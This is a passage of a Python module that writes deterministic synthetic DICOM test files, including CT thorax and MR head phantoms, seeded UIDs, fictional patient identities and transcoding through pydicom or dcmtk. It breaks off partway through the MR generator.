"""Seeded generators of realistic DICOM test data, and catalogues of real sample files.

Everything written here is a DICOM Part-10 file (PS3.10 section 7: 128-byte preamble, ``DICM``,
File Meta Information, data set) in Explicit VR Little Endian unless a transfer syntax is asked
for. Pixel data are phantoms with noise, never all zero. UIDs come from
:func:`pydicom.uid.generate_uid` fed with seeded entropy, so the same arguments give the same
bytes on every run (see :func:`seeded_uid`).

Generators:

- :func:`make_ct_series`: axial CT of a thorax phantom (air, fat, soft tissue, lungs, heart,
  aorta, spine, ribs, sternum, table) in HU, stored as int16 with RescaleIntercept -1024.
- :func:`make_mr_series`: axial T1-like MR of a head phantom (scalp, skull, CSF, grey and white
  matter, ventricles) with Rician noise, uint16 with BitsStored 12.
- :func:`make_cr_image`: one large chest PA radiograph, MONOCHROME1 or MONOCHROME2.
- :func:`make_us_multiframe`: multi-frame RGB ultrasound (sector speckle and colour Doppler).
- :func:`make_study`: a multi-series study; :func:`make_dataset`: one instance in memory.
- :func:`compress`: transcodes a file (pydicom encoders first, dcmtk's tools as a fallback).
- :func:`make_charset_samples` and :func:`charset_test_files`: Specific Character Set samples
  (PS3.5 Annexes H, I, J, K and section 6.1).
- :func:`pydicom_test_files`: curated real files shipped in pydicom's wheel and pydicom-data.
- :func:`hostile_files`: malformed and malicious inputs for ingest hardening.

Encoders (pydicom 3.0 with pylibjpeg, pylibjpeg-openjpeg, pylibjpeg-rle, python-gdcm): pydicom
itself encodes RLE Lossless and JPEG 2000 (lossless and lossy); JPEG-LS needs ``pyjpegls``
which is not a project dependency, and pydicom has no JPEG (10918) encoder at all, so those go
through dcmtk's ``dcmcjpls`` / ``dcmcjpeg``, and big endian / deflated through ``dcmconv``.
:func:`available_encoders` tells what this machine can produce.
"""

from __future__ import annotations

import functools
import io
import math
import os
import shutil
import struct
import subprocess
import tempfile
import warnings
import zlib
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Literal, NamedTuple

import numpy as np
import numpy.typing as npt
from pydicom import config, dcmread
from pydicom.data import get_testdata_file
from pydicom.datadict import tag_for_keyword
from pydicom.dataelem import DataElement
from pydicom.dataset import Dataset, FileMetaDataset
from pydicom.filebase import DicomBytesIO
from pydicom.filewriter import write_dataset, write_file_meta_info
from pydicom.pixels.encoders.base import get_encoder
from pydicom.sequence import Sequence as DicomSequence
from pydicom.tag import Tag
from pydicom.uid import (
    JPEG2000,
    UID,
    ComputedRadiographyImageStorage,
    CTImageStorage,
    DeflatedExplicitVRLittleEndian,
    ExplicitVRBigEndian,
    ExplicitVRLittleEndian,
    ImplicitVRLittleEndian,
    JPEG2000Lossless,
    JPEGBaseline8Bit,
    JPEGExtended12Bit,
    JPEGLossless,
    JPEGLosslessSV1,
    JPEGLSLossless,
    JPEGLSNearLossless,
    MRImageStorage,
    RLELossless,
    UltrasoundMultiFrameImageStorage,
    generate_uid,
)

__all__ = [
    "CHARSET_SAMPLES",
    "HOSTILE_DESCRIPTIONS",
    "IMPLEMENTATION_CLASS_UID",
    "IMPLEMENTATION_VERSION_NAME",
    "CharsetSample",
    "GeneratedSeries",
    "GeneratedStudy",
    "SampleFile",
    "available_encoders",
    "charset_test_files",
    "compress",
    "hostile_files",
    "make_charset_samples",
    "make_cr_image",
    "make_ct_series",
    "make_dataset",
    "make_mr_series",
    "make_study",
    "make_us_multiframe",
    "pydicom_test_file",
    "pydicom_test_files",
    "seeded_uid",
]

F32 = npt.NDArray[np.float32]
Charset = str | Sequence[str] | None
Modality = Literal["CT", "MR", "CR", "US"]

#: Implementation Class UID written in every generated file's meta header (fixed, so that
#: files do not change when pydicom's version does).
IMPLEMENTATION_CLASS_UID = UID("1.2.826.0.1.3680043.8.498.10.1.1.1")
#: Implementation Version Name written in every generated file's meta header.
IMPLEMENTATION_VERSION_NAME = "VESALIUS_TEST_1"

_UNCOMPRESSED_LE = (ExplicitVRLittleEndian, ImplicitVRLittleEndian)

_NAMES = (
    "Doe^Jane",
    "Smith^John^A",
    "Garcia^Maria",
    "Nguyen^Van^Minh",
    "Okafor^Chidi",
    "Kowalski^Anna",
    "Tanaka^Hiroshi",
    "Muller^Hans",
    "Rossi^Giulia",
    "Johansson^Erik",
    "Haddad^Layla",
    "Brown^Robert^J^Dr",
)


# --------------------------------------------------------------------------------------------
# UIDs and identity
# --------------------------------------------------------------------------------------------


def seeded_uid(*parts: object) -> UID:
    """Return a deterministic UID derived from ``parts``.

    It is :func:`pydicom.uid.generate_uid` with pydicom's root (``1.2.826.0.1.3680043.8.498.``)
    and ``entropy_srcs`` made of a fixed tag plus ``str(part)`` for each part: the same parts
    give the same UID on every run and machine, different parts give different UIDs.
    """
    return generate_uid(entropy_srcs=["vesalius-tests", *(str(p) for p in parts)])


def _stream(*parts: object) -> np.random.Generator:
    """A numpy generator seeded from ``parts`` (stable across runs and platforms)."""
    words = [zlib.crc32(str(p).encode("utf-8")) for p in parts]
    return np.random.default_rng(words)


def _charset_value(charset: Charset) -> str | list[str] | None:
    """Normalise a Specific Character Set argument (``"\\ISO 2022 IR 87"`` or a list)."""
    if charset is None:
        return None
    if isinstance(charset, str):
        parts = charset.split("\\")
        return parts[0] if len(parts) == 1 else parts
    values = list(charset)
    return values[0] if len(values) == 1 else values


@dataclass(frozen=True)
class _Ident:
    """Patient and study attributes shared by every instance of a generated study."""

    seed: int
    patient_id: str
    patient_name: str
    issuer: str
    birth_date: str
    sex: str
    age: str
    study_uid: str
    study_date: str
    study_time: str
    accession: str
    study_id: str
    study_description: str
    referring: str
    institution: str
    charset: str | list[str] | None


def _ident(
    seed: int,
    *,
    patient_id: str | None,
    patient_name: str | None,
    study_uid: str | None,
    study_date: str,
    study_time: str,
    accession: str | None,
    charset: Charset,
    study_description: str,
) -> _Ident:
    if seed < 0:
        raise ValueError(f"seed must be >= 0, got {seed}")
    if len(study_date) != 8 or not study_date.isdigit():
        raise ValueError(f"study_date must be a DICOM DA 'YYYYMMDD', got {study_date!r}")
    rng = _stream("ident", seed)
    pid = patient_id if patient_id is not None else f"VES{seed:06d}"
    acc = accession if accession is not None else f"ACC{seed:06d}"
    year = int(study_date[:4])
    age = int(rng.integers(25, 86))
    birth = f"{year - age:04d}{int(rng.integers(1, 13)):02d}{int(rng.integers(1, 29)):02d}"
    # Age at the study: one less when the birthday falls after the study's day.
    age_at_study = age - (1 if birth[4:] > study_date[4:] else 0)
    suid = study_uid or str(seeded_uid("study", seed, pid, acc, study_date))
    return _Ident(
        seed=seed,
        patient_id=pid,
        patient_name=patient_name if patient_name is not None else _NAMES[seed % len(_NAMES)],
        issuer="VESALIUS-TEST",
        birth_date=birth,
        sex=("F", "M")[int(rng.integers(0, 2))],
        age=f"{age_at_study:03d}Y",
        study_uid=suid,
        study_date=study_date,
        study_time=study_time,
        accession=acc,
        study_id=str(1000 + seed % 9000),
        study_description=study_description,
        referring=("Osler^William", "Curie^Marie", "House^Gregory")[seed % 3],
        institution="Vesalius General Hospital",
        charset=_charset_value(charset),
    )


@dataclass(frozen=True)
class _Series:
    """Series-level attributes."""

    modality: str
    sop_class: str
    series_uid: str
    series_number: int
    description: str
    body_part: str
    frame_of_reference_uid: str
    series_time: str


def _series(
    ident: _Ident,
    *,
    modality: str,
    sop_class: str,
    series_uid: str | None,
    series_number: int,
    description: str,
    body_part: str,
) -> _Series:
    suid = series_uid or str(
        seeded_uid("series", ident.study_uid, modality, series_number, description, ident.seed)
    )
    # Series start a few minutes apart after the study time.
    hh, mm = int(ident.study_time[:2]), int(ident.study_time[2:4])
    minutes = (hh * 60 + mm + 3 * series_number) % (24 * 60)
    return _Series(
        modality=modality,
        sop_class=sop_class,
        series_uid=suid,
        series_number=series_number,
        description=description,
        body_part=body_part,
        frame_of_reference_uid=str(seeded_uid("for", ident.study_uid, ident.seed)),
        series_time=f"{minutes // 60:02d}{minutes % 60:02d}{ident.study_time[4:6] or '00'}",
    )


def _sop_uid(series: _Series, index: int) -> str:
    return str(seeded_uid("sop", series.series_uid, index))


def _base_dataset(ident: _Ident, series: _Series, sop_uid: str, instance_number: int) -> Dataset:
    """The patient, study, series, equipment and SOP common modules."""
    ds = Dataset()
    if ident.charset is not None:
        ds.SpecificCharacterSet = ident.charset
    ds.ImageType = ["ORIGINAL", "PRIMARY"]
    ds.InstanceCreationDate = ident.study_date
    ds.InstanceCreationTime = series.series_time
    ds.SOPClassUID = series.sop_class
    ds.SOPInstanceUID = sop_uid
    ds.StudyDate = ident.study_date
    ds.SeriesDate = ident.study_date
    ds.AcquisitionDate = ident.study_date
    ds.ContentDate = ident.study_date
    ds.StudyTime = ident.study_time
    ds.SeriesTime = series.series_time
    ds.AcquisitionTime = series.series_time
    ds.ContentTime = series.series_time
    ds.AccessionNumber = ident.accession
    ds.Modality = series.modality
    ds.Manufacturer = "Vesalius Test Data"
    ds.InstitutionName = ident.institution
    ds.ReferringPhysicianName = ident.referring
    ds.StationName = f"VES{series.modality}01"
    ds.StudyDescription = ident.study_description
    ds.SeriesDescription = series.description
    ds.ManufacturerModelName = "Phantom"
    ds.PatientName = ident.patient_name
    ds.PatientID = ident.patient_id
    ds.IssuerOfPatientID = ident.issuer
    ds.PatientBirthDate = ident.birth_date
    ds.PatientSex = ident.sex
    ds.PatientAge = ident.age
    ds.BodyPartExamined = series.body_part
    ds.DeviceSerialNumber = "0001"
    ds.SoftwareVersions = "1.0"
    ds.StudyInstanceUID = ident.study_uid
    ds.SeriesInstanceUID = series.series_uid
    ds.StudyID = ident.study_id
    ds.SeriesNumber = series.series_number
    ds.AcquisitionNumber = 1
    ds.InstanceNumber = instance_number
    return ds


def _apply_overrides(ds: Dataset, overrides: Mapping[str, Any] | None) -> None:
    """Set (or, with value ``None``, delete) attributes by DICOM keyword."""
    for keyword, value in (overrides or {}).items():
        if tag_for_keyword(keyword) is None:
            raise ValueError(f"unknown DICOM keyword {keyword!r} in overrides")
        if value is None:
            if keyword in ds:
                delattr(ds, keyword)
        else:
            setattr(ds, keyword, value)


def _set_pixels(
    ds: Dataset,
    arr: npt.NDArray[Any],
    *,
    photometric: str,
    bits_stored: int,
    frames: int | None = None,
) -> None:
    """Image Pixel module from a native array (rows, cols[, 3]) or (frames, rows, cols[, 3])."""
    color = photometric in ("RGB", "YBR_FULL")
    shape = arr.shape[1:] if frames is not None else arr.shape
    ds.SamplesPerPixel = 3 if color else 1
    ds.PhotometricInterpretation = photometric
    if color:
        ds.PlanarConfiguration = 0
    if frames is not None:
        ds.NumberOfFrames = frames
    ds.Rows = int(shape[0])
    ds.Columns = int(shape[1])
    bits_allocated = arr.dtype.itemsize * 8
    ds.BitsAllocated = bits_allocated
    ds.BitsStored = bits_stored
    ds.HighBit = bits_stored - 1
    ds.PixelRepresentation = 1 if arr.dtype.kind == "i" else 0
    data = np.ascontiguousarray(arr).astype(arr.dtype.newbyteorder("<"), copy=False).tobytes()
    ds["PixelData"] = DataElement(0x7FE00010, "OW" if bits_allocated > 8 else "OB", data)


# --------------------------------------------------------------------------------------------
# Writing and transcoding
# --------------------------------------------------------------------------------------------


def _file_meta(ds: Dataset, transfer_syntax: str) -> FileMetaDataset:
    meta = FileMetaDataset()
    meta.MediaStorageSOPClassUID = ds.SOPClassUID
    meta.MediaStorageSOPInstanceUID = ds.SOPInstanceUID
    meta.TransferSyntaxUID = UID(transfer_syntax)
    meta.ImplementationClassUID = IMPLEMENTATION_CLASS_UID
    meta.ImplementationVersionName = IMPLEMENTATION_VERSION_NAME
    return meta


def _pydicom_can_encode(transfer_syntax: str) -> bool:
    try:
        return bool(get_encoder(transfer_syntax).is_available)
    except (NotImplementedError, ValueError):
        return False


#: dcmtk command lines that produce each transfer syntax from an uncompressed file.
#: ``+un``: keep the SOP Instance UID even for lossy output (it is the same instance
#: in another transfer syntax, which is what the tests need).
_DCMTK_ENCODERS: dict[str, tuple[str, ...]] = {
    RLELossless: ("dcmcrle", "+un"),
    JPEGLSLossless: ("dcmcjpls", "+el", "+un"),
    JPEGLSNearLossless: ("dcmcjpls", "+en", "+un"),
    JPEGBaseline8Bit: ("dcmcjpeg", "+eb", "+un"),
    JPEGExtended12Bit: ("dcmcjpeg", "+ee", "+un"),
    JPEGLossless: ("dcmcjpeg", "+el", "+un"),
    JPEGLosslessSV1: ("dcmcjpeg", "+e1", "+un"),
    ExplicitVRBigEndian: ("dcmconv", "+tb"),
    DeflatedExplicitVRLittleEndian: ("dcmconv", "+td"),
}


def available_encoders() -> dict[str, str]:
    """Map each transfer syntax UID that :func:`compress` can produce here to its backend.

    Values are ``"pydicom"`` (native write), ``"pydicom:<plugins>"`` (a pydicom encoder and the
    plugins that provide it) or ``"dcmtk:<tool>"``. On the project's environment this is:
    Explicit/Implicit VR Little Endian (pydicom), RLE Lossless (pydicom: gdcm, pydicom,
    pylibjpeg), JPEG 2000 and JPEG 2000 Lossless (pydicom: pylibjpeg-openjpeg), JPEG-LS lossless
    and near-lossless (dcmtk ``dcmcjpls``), JPEG baseline/extended/lossless (dcmtk
    ``dcmcjpeg``), Explicit VR Big Endian and Deflated (dcmtk ``dcmconv``).
    """
    out: dict[str, str] = {str(ts): "pydicom" for ts in _UNCOMPRESSED_LE}
    for ts in (RLELossless, JPEG2000Lossless, JPEG2000, JPEGLSLossless, JPEGLSNearLossless):
        if _pydicom_can_encode(ts):
            plugins = ",".join(get_encoder(ts).available_plugins)
            out[str(ts)] = f"pydicom:{plugins}"
    for uid, cmd in _DCMTK_ENCODERS.items():
        if uid not in out and shutil.which(cmd[0]):
            out[uid] = f"dcmtk:{cmd[0]}"
    return out


def _save(ds: Dataset, path: Path, transfer_syntax: str = ExplicitVRLittleEndian) -> Path:
    """Write ``ds`` as a Part-10 file in ``transfer_syntax`` (uncompressed pixels in ``ds``)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    ts = UID(transfer_syntax)
    if ts in _UNCOMPRESSED_LE:
        ds.file_meta = _file_meta(ds, ts)
        ds.save_as(path, enforce_file_format=True)
        return path
    ds.file_meta = _file_meta(ds, ExplicitVRLittleEndian)
    if ts.is_compressed and _pydicom_can_encode(ts) and ts != JPEG2000:
        ds.compress(ts, generate_instance_uid=False)
        ds.file_meta.ImplementationClassUID = IMPLEMENTATION_CLASS_UID
        ds.file_meta.ImplementationVersionName = IMPLEMENTATION_VERSION_NAME
        ds.save_as(path, enforce_file_format=True)
        return path
    ds.save_as(path, enforce_file_format=True)
    return compress(path, path, ts)


def compress(
    path_in: str | os.PathLike[str],
    path_out: str | os.PathLike[str],
    transfer_syntax: str,
    *,
    backend: Literal["auto", "pydicom", "dcmtk"] = "auto",
    **encoder_kwargs: Any,
) -> Path:
    """Transcode a DICOM file to ``transfer_syntax`` and return ``path_out``.

    The input may be in any transfer syntax pydicom can decode; it is decompressed first. The
    SOP Instance UID is kept (even for lossy output). ``path_out`` may equal ``path_in``.

    Backends, tried in this order with ``backend="auto"``:

    - Explicit / Implicit VR Little Endian: written by pydicom.
    - ``pydicom``: :meth:`pydicom.dataset.Dataset.compress` when an encoder plugin is available
      (RLE Lossless; JPEG 2000 Lossless; JPEG 2000, where ``j2k_cr=[10]`` is used unless
      ``j2k_cr`` or ``j2k_psnr`` is given; JPEG-LS only with ``pyjpegls``). ``encoder_kwargs``
      go to it.
    - ``dcmtk``: ``dcmcrle``, ``dcmcjpls`` (JPEG-LS lossless / near-lossless),
      ``dcmcjpeg`` (JPEG baseline 8-bit, extended 12-bit, lossless, lossless SV1; baseline
      needs 8-bit data), ``dcmconv`` (Explicit VR Big Endian, Deflated Explicit VR LE).

    Raises:
        ValueError: no backend here can produce ``transfer_syntax``.
        RuntimeError: the dcmtk tool failed (its stderr is in the message).
    """
    src, dst = Path(path_in), Path(path_out)
    ts = UID(transfer_syntax)
    ds = dcmread(src)
    if ds.file_meta.TransferSyntaxUID.is_compressed:
        ds.decompress(generate_instance_uid=False)
    for name, value in (
        ("ImplementationClassUID", IMPLEMENTATION_CLASS_UID),
        ("ImplementationVersionName", IMPLEMENTATION_VERSION_NAME),
    ):
        setattr(ds.file_meta, name, value)
    dst.parent.mkdir(parents=True, exist_ok=True)
    bits = int(ds.get("BitsStored", 0))
    if ts == JPEGBaseline8Bit and bits > 8:
        raise ValueError(f"JPEG baseline holds 8-bit samples only; {src} has BitsStored {bits}")
    if ts == JPEGExtended12Bit and bits > 12:
        raise ValueError(f"JPEG extended holds up to 12 bits; {src} has BitsStored {bits}")

    if ts in _UNCOMPRESSED_LE and backend != "dcmtk":
        ds.file_meta.TransferSyntaxUID = ts
        ds.save_as(dst, enforce_file_format=True)
        return dst

    if backend in ("auto", "pydicom") and ts.is_compressed and _pydicom_can_encode(ts):
        kwargs = dict(encoder_kwargs)
        if ts == JPEG2000 and "j2k_cr" not in kwargs and "j2k_psnr" not in kwargs:
            kwargs["j2k_cr"] = [10]
        ds.compress(ts, generate_instance_uid=False, **kwargs)
        ds.save_as(dst, enforce_file_format=True)
        return dst
    if backend == "pydicom":
        raise ValueError(f"pydicom has no available encoder for {ts.name} ({ts})")

    cmd = _DCMTK_ENCODERS.get(ts)
    if cmd is None or shutil.which(cmd[0]) is None:
        raise ValueError(
            f"cannot produce {ts.name} ({ts}) here: available are "
            f"{sorted(available_encoders())}; install pyjpegls or dcmtk for more"
        )
    with tempfile.TemporaryDirectory(prefix="vesalius-compress-") as tmp:
        plain = Path(tmp) / "in.dcm"
        out = Path(tmp) / "out.dcm"
        ds.file_meta.TransferSyntaxUID = ExplicitVRLittleEndian
        ds.save_as(plain, enforce_file_format=True)
        proc = subprocess.run(
            [*cmd, str(plain), str(out)], capture_output=True, text=True, timeout=300
        )
        if proc.returncode != 0 or not out.exists():
            raise RuntimeError(
                f"{' '.join(cmd)} failed ({proc.returncode}): {proc.stderr.strip()}"
            )
        shutil.move(str(out), str(dst))
    return dst


# --------------------------------------------------------------------------------------------
# Phantoms
# --------------------------------------------------------------------------------------------


def _grid(rows: int, cols: int) -> tuple[F32, F32]:
    """Normalised coordinates: x in [-1, 1] left to right, y in [-1, 1] top to bottom."""
    y = np.linspace(-1.0, 1.0, rows, dtype=np.float32)[:, None]
    x = np.linspace(-1.0, 1.0, cols, dtype=np.float32)[None, :]
    return x, y


def _ellipse(x: F32, y: F32, cx: float, cy: float, ax: float, ay: float) -> F32:
    """Normalised elliptic radius (1.0 on the outline) as a full (rows, cols) float32 array."""
    r = np.sqrt(((x - cx) / ax) ** 2 + ((y - cy) / ay) ** 2)
    return np.asarray(r, dtype=np.float32)


@dataclass(frozen=True)
class _Shape:
    """An elliptic structure: radius field and the edge sharpness in radius units."""

    r: F32
    k: float


def _shape(x: F32, y: F32, px: float, cx: float, cy: float, ax: float, ay: float) -> _Shape:
    # The radius changes by about px / min(ax, ay) per pixel: a 1.5-pixel partial-volume edge.
    return _Shape(_ellipse(x, y, cx, cy, ax, ay), min(ax, ay) / (1.5 * px))


def _blend(img: F32, shape: _Shape, scale: float, value: float, tmp: F32) -> None:
    """In place: img += (value - img) * clip((scale - r) * k, 0, 1)."""
    if scale <= 0:
        return
    np.subtract(scale, shape.r, out=tmp)
    tmp *= shape.k / scale
    np.clip(tmp, 0.0, 1.0, out=tmp)
    delta = value - img
    delta *= tmp
    img += delta


class _ThoraxPhantom:
    """Precomputed geometry of an axial thorax phantom for one matrix size (values in HU)."""

    def __init__(self, rows: int, cols: int) -> None:
        x, y = _grid(rows, cols)
        px = 2.0 / min(rows, cols)
        self.shape = (rows, cols)
        self.body = _shape(x, y, px, 0.0, 0.02, 0.82, 0.60)
        self.lung_r = _shape(x, y, px, -0.36, -0.04, 0.27, 0.38)
        self.lung_l = _shape(x, y, px, 0.36, -0.04, 0.27, 0.38)
        self.heart = _shape(x, y, px, 0.12, 0.02, 0.24, 0.21)
        self.aorta = _shape(x, y, px, 0.10, 0.30, 0.065, 0.065)
        self.spine = _shape(x, y, px, 0.0, 0.42, 0.10, 0.09)
        self.canal = _shape(x, y, px, 0.0, 0.55, 0.035, 0.03)
        self.sternum = _shape(x, y, px, 0.0, -0.50, 0.07, 0.035)
        self.table = _shape(x, y, px, 0.0, 1.55, 1.2, 0.88)
        self.table_hollow = _shape(x, y, px, 0.0, 1.55, 1.17, 0.85)
        # Ribs: short arcs on a ring inside the body outline, away from sternum and spine.
        theta = np.arctan2(y - 0.02, x / 0.82 * 0.60)
        ring = np.abs(self.body.r - 0.86)
        arcs = (np.cos(14.0 * theta) > 0.2) & (np.abs(theta + np.pi / 2) > 0.45)
        arcs &= np.abs(theta - np.pi / 2) > 0.35
        self.ribs = np.where(
            arcs, np.clip((0.035 - ring) * (0.6 / (1.5 * px)), 0.0, 1.0), 0.0
        ).astype(np.float32)

    def slice_hu(self, t: float, ribs: bool) -> F32:
        """The noiseless HU image at relative position ``t`` in [0, 1] (apex to base)."""
        img = np.full(self.shape, -1000.0, dtype=np.float32)
        tmp = np.empty(self.shape, dtype=np.float32)
        s = math.sin(math.pi * (0.05 + 0.9 * t))
        body = 0.90 + 0.10 * s
        lung = max(0.0, s) ** 0.6 if s > 0.2 else 0.0
        heart = max(0.0, math.sin(math.pi * min(1.0, max(0.0, (t - 0.3) / 0.7))))
        _blend(img, self.table, 1.0, 300.0, tmp)
        _blend(img, self.table_hollow, 1.0, -1000.0, tmp)
        _blend(img, self.body, body, -100.0, tmp)
        _blend(img, self.body, body * 0.93, 45.0, tmp)
        _blend(img, self.lung_r, lung, -850.0, tmp)
        _blend(img, self.lung_l, lung * 0.95, -850.0, tmp)
        _blend(img, self.heart, heart, 40.0, tmp)
        _blend(img, self.aorta, 1.0, 170.0, tmp)
        _blend(img, self.spine, 1.0, 700.0, tmp)
        _blend(img, self.spine, 0.75, 230.0, tmp)
        _blend(img, self.canal, 1.0, 15.0, tmp)
        _blend(img, self.sternum, 1.0 if ribs else 0.8, 500.0, tmp)
        if ribs:
            img += (750.0 - img) * self.ribs
        return img


class _HeadPhantom:
    """Precomputed geometry of an axial head phantom (T1-like MR signal, arbitrary units)."""

    def __init__(self, rows: int, cols: int) -> None:
        x, y = _grid(rows, cols)
        px = 2.0 / min(rows, cols)
        self.shape = (rows, cols)
        self.head = _shape(x, y, px, 0.0, 0.0, 0.72, 0.88)
        self.vent_l = _shape(x, y, px, 0.12, -0.05, 0.07, 0.30)
        self.vent_r = _shape(x, y, px, -0.12, -0.05, 0.07, 0.30)
        self.eye_l = _shape(x, y, px, 0.30, -0.78, 0.12, 0.10)
        self.eye_r = _shape(x, y, px, -0.30, -0.78, 0.12, 0.10)

    def slice_signal(self, t: float) -> F32:
        """The noiseless signal at relative position ``t`` in [0, 1] (skull base to vertex)."""
        img = np.zeros(self.shape, dtype=np.float32)
        tmp = np.empty(self.shape, dtype=np.float32)
        size = math.sqrt(max(0.0, 1.0 - ((t - 0.3) / 0.78) ** 2))
        size = max(size, 0.2)
        _blend(img, self.head, size, 900.0, tmp)  # scalp fat
        _blend(img, self.head, size * 0.95, 60.0, tmp)  # skull
        _blend(img, self.head, size * 0.90, 180.0, tmp)  # CSF
        _blend(img, self.head, size * 0.87, 560.0, tmp)  # grey matter
        _blend(img, self.head, size * 0.70, 760.0, tmp)  # white matter
        vent = max(0.0, math.sin(math.pi * min(1.0, max(0.0, (t - 0.25) / 0.5))))
        _blend(img, self.vent_l, vent, 180.0, tmp)
        _blend(img, self.vent_r, vent, 180.0, tmp)
        eyes = max(0.0, 1.0 - t / 0.2)
        _blend(img, self.eye_l, eyes, 250.0, tmp)
        _blend(img, self.eye_r, eyes, 250.0, tmp)
        return img


@functools.lru_cache(maxsize=8)
def _thorax(rows: int, cols: int) -> _ThoraxPhantom:
    return _ThoraxPhantom(rows, cols)


@functools.lru_cache(maxsize=8)
def _head(rows: int, cols: int) -> _HeadPhantom:
    return _HeadPhantom(rows, cols)


def _check_size(rows: int, cols: int, n: int, what: str) -> None:
    if rows < 8 or cols < 8 or rows > 65535 or cols > 65535:
        raise ValueError(f"rows and cols must be in 8..65535, got {rows}x{cols}")
    if n < 1:
        raise ValueError(f"{what} must be >= 1, got {n}")


# --------------------------------------------------------------------------------------------
# CT
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class _CTGeometry:
    rows: int
    cols: int
    n: int
    pixel_spacing: float
    thickness: float
    kernel: str
    noise_hu: float
    z0: float


def _ct_instance(
    ident: _Ident, series: _Series, geo: _CTGeometry, index: int, acquisition: int = 1
) -> Dataset:
    """One CT slice (index 0 is the most superior, InstanceNumber 1)."""
    phantom = _thorax(geo.rows, geo.cols)
    t = index / max(geo.n - 1, 1)
    z = geo.z0 - index * geo.thickness
    ribs = int((geo.z0 - z) // 12.0) % 2 == 0
    hu = phantom.slice_hu(t, ribs)
    rng = _stream("ct-noise", series.series_uid, index)
    noise = rng.standard_normal(hu.shape, dtype=np.float32)
    noise *= geo.noise_hu
    hu += noise
    hu += 1024.0
    np.rint(hu, out=hu)
    np.clip(hu, -1024.0, 4095.0, out=hu)
    stored = hu.astype(np.int16)

    ds = _base_dataset(ident, series, _sop_uid(series, index), index + 1)
    ds.ImageType = ["ORIGINAL", "PRIMARY", "AXIAL"]
    ds.AcquisitionNumber = acquisition
    ds.ScanOptions = "HELICAL MODE"
    ds.SliceThickness = f"{geo.thickness:g}"
    ds.KVP = "120"
    ds.DataCollectionDiameter = "500"
    ds.ReconstructionDiameter = f"{geo.pixel_spacing * geo.cols:.1f}"
    ds.GantryDetectorTilt = "0"
    ds.TableHeight = "150"
    ds.RotationDirection = "CW"
    ds.ExposureTime = "500"
    ds.XRayTubeCurrent = "200"
    ds.Exposure = "100"
    ds.ConvolutionKernel = geo.kernel
    ds.PatientPosition = "HFS"
    ds.ImagePositionPatient = [
        f"{-geo.pixel_spacing * (geo.cols - 1) / 2:.4f}",
        f"{-geo.pixel_spacing * (geo.rows - 1) / 2:.4f}",
        f"{z:.4f}",
    ]
    ds.ImageOrientationPatient = [1, 0, 0, 0, 1, 0]
    ds.FrameOfReferenceUID = series.frame_of_reference_uid
    ds.PositionReferenceIndicator = ""
    ds.SliceLocation = f"{z:.4f}"
    ds.PixelSpacing = [f"{geo.pixel_spacing:.6g}", f"{geo.pixel_spacing:.6g}"]
    ds.WindowCenter = "40" if geo.kernel != "LUNG" else "-600"
    ds.WindowWidth = "400" if geo.kernel != "LUNG" else "1500"
    ds.RescaleIntercept = "-1024"
    ds.RescaleSlope = "1"
    ds.RescaleType = "HU"
    _set_pixels(ds, stored, photometric="MONOCHROME2", bits_stored=16)
    return ds


def make_ct_series(
    out_dir: str | os.PathLike[str],
    n_slices: int = 20,
    rows: int = 512,
    cols: int = 512,
    seed: int = 0,
    *,
    patient_id: str | None = None,
    patient_name: str | None = None,
    study_uid: str | None = None,
    series_uid: str | None = None,
    study_date: str = "20240102",
    study_time: str = "101500",
    modality: str = "CT",
    accession: str | None = None,
    charset: Charset = None,
    series_number: int = 1,
    series_description: str = "Thorax 1.25mm STANDARD",
    study_description: str = "CT THORAX",
    body_part: str = "CHEST",
    slice_thickness: float = 1.25,
    pixel_spacing: float | None = None,
    kernel: str = "STANDARD",
    noise_hu: float = 12.0,
    transfer_syntax: str = ExplicitVRLittleEndian,
    overrides: Mapping[str, Any] | None = None,
) -> list[Path]:
    """Write an axial CT series of a thorax phantom and return its files in slice order.

    Slices are contiguous from superior to inferior (InstanceNumber 1 is at z = 0, then
    z = -slice_thickness ...), HU = stored - 1024 (int16, RescaleIntercept -1024, slope 1),
    air -1000, fat -100, soft tissue 45, lungs -850, contrast aorta 170, bone 700 with
    ``noise_hu`` Gaussian noise. Pixel spacing defaults to a 360 mm field of view.

    Defaults derive from ``seed``: PatientID ``VES{seed:06d}``, AccessionNumber
    ``ACC{seed:06d}``, a name, birth date and sex; Study, Series and SOP Instance UIDs are
    :func:`seeded_uid` of the study, series and slice, so the same arguments write the same
    bytes. ``modality`` only changes the Modality attribute (the SOP Class stays CT Image
    Storage). ``charset`` sets Specific Character Set (e.g. ``"ISO_IR 192"`` or
    ``"\\\\ISO 2022 IR 87"``) and pydicom encodes the names with it. ``overrides`` sets (or,
    with ``None``, removes) any attribute by keyword on every slice. Files are named
    ``<SOPInstanceUID>.dcm``. 1000 slices of 512x512 take about ten seconds.
    """
    _check_size(rows, cols, n_slices, "n_slices")
    ident = _ident(
        seed,
        patient_id=patient_id,
        patient_name=patient_name,
        study_uid=study_uid,
        study_date=study_date,
        study_time=study_time,
        accession=accession,
        charset=charset,
        study_description=study_description,
    )
    series = _series(
        ident,
        modality=modality,
        sop_class=CTImageStorage,
        series_uid=series_uid,
        series_number=series_number,
        description=series_description,
        body_part=body_part,
    )
    geo = _CTGeometry(
        rows=rows,
        cols=cols,
        n=n_slices,
        pixel_spacing=pixel_spacing or 360.0 / cols,
        thickness=slice_thickness,
        kernel=kernel,
        noise_hu=noise_hu,
        z0=0.0,
    )
    out = Path(out_dir)
    paths = []
    for i in range(n_slices):
        ds = _ct_instance(ident, series, geo, i)
        _apply_overrides(ds, overrides)
        paths.append(_save(ds, out / f"{ds.SOPInstanceUID}.dcm", transfer_syntax))
    return paths


# --------------------------------------------------------------------------------------------
# MR
# --------------------------------------------------------------------------------------------


def _mr_instance(
    ident: _Ident,
    series: _Series,
    rows: int,
    cols: int,
    n: int,
    index: int,
    thickness: float,
    gap: float,
    pixel_spacing: float,
) -> Dataset:
    phantom = _head(rows, cols)
    t = index / max(n - 1, 1)
    signal = phantom.slice_signal(t)
    rng = _stream("mr-noise", series.series_uid, index)
    sigma = 18.0
    re = rng.standard_normal(signal.shape, dtype=np.float32)
    re *= sigma
    re += signal
    im = rng.standard_normal(signal.shape, dtype=np.float32)
    im *= sigma
    mag = np.sqrt(re * re + im * im)  # Rician magnitude noise, as in real MR
    np.rint(mag, out=mag)
